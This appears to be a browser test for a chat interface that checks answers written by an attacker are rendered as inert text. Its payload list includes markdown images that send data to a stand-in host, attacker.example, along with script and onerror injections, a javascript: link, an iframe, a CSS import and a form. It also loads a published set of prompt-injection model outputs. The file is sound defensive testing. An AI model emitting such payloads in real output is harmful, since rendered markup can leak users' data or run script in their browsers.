import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { browserMissing, launchBrowser, openPage } from './browser.ts'
import { recordedTurn } from './recorded-turn.ts'
import { type StandIn, startStandIn } from './stand-in-server.ts'

/** Ways in which an answer could call another host or run something, each a form of its own. */
const ownAnswers = [
  '![x](https://attacker.example/?d=1)',
  '![r]\n\n[r]: https://attacker.example/?d=1',
  '[![b](https://attacker.example/b.svg)](https://attacker.example)',
  '<img src=x onerror=alert(1)><script>alert(1)</script><iframe src="https://attacker.example"></iframe>',
  '[click](javascript:alert(1)) <https://attacker.example> https://attacker.example www.attacker.example',
  '<style>@import "https://attacker.example"</style><form action="https://attacker.example"><input></form>',
]

const published = join(import.meta.dirname, '../../../../shared/data/security/injection/model-outputs.jsonl')

/** A larger published collection, where it stands beside the checkout. */
function publishedAnswers(): string[] {
  if (!existsSync(published)) return []
  return readFileSync(published, 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line): unknown => JSON.parse(line))
    .flatMap((entry) =>
      typeof entry === 'object' && entry !== null && 'modelOutput' in entry && typeof entry.modelOutput === 'string'
        ? [entry.modelOutput]
        : [],
    )
}

describe.skipIf(browserMissing !== undefined)('an answer written by an attacker', () => {
  let browser: Browser
  let server: StandIn
  beforeAll(async () => {
    browser = await launchBrowser()
    server = await startStandIn({ events: recordedTurn })
  })
  afterAll(async () => {
    await browser?.close()
    await server?.close()
  })

  test('is shown as text: nothing is loaded, linked or run, however it is cut', async () => {
    const { page, close } = await openPage(browser, server.url)
    const foreign: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(server.url) && !url.startsWith('data:')) foreign.push(url)
    })
    page.on('dialog', (dialog) => {
      foreign.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    const live: string[] = []
    const [start, end] = [recordedTurn[0], recordedTurn.at(-1)]
    for (const answer of [...ownAnswers, ...publishedAnswers()]) {
      const pieces = answer.replaceAll('{{CHUNK}}', '').match(/[\s\S]{1,3}/g) ?? []
      server.script = {
        events: [
          ...(start === undefined ? [] : [start]),
          ...pieces.map((delta) => ({ type: 'text-delta' as const, delta })),
          ...(end === undefined ? [] : [end]),
        ],
      }
      await page.getByRole('textbox', { name: 'Your question' }).fill('What does it say?')
      await page.keyboard.press('Enter')
      await page.locator('article[aria-busy=false] .answer-text').waitFor({ state: 'attached' })
      const found = await page
        .locator('.answer-text')
        .locator('a, img, script, iframe, form, style, object, embed, svg image, video, audio, link')
        .count()
      if (found > 0 || (await page.locator('.answer-text').innerText()).trim() === '') live.push(answer)
      await page.getByRole('button', { name: 'New conversation' }).click()
    }
    expect(foreign).toEqual([])
    expect(live).toEqual([])
    await close()
  })
})
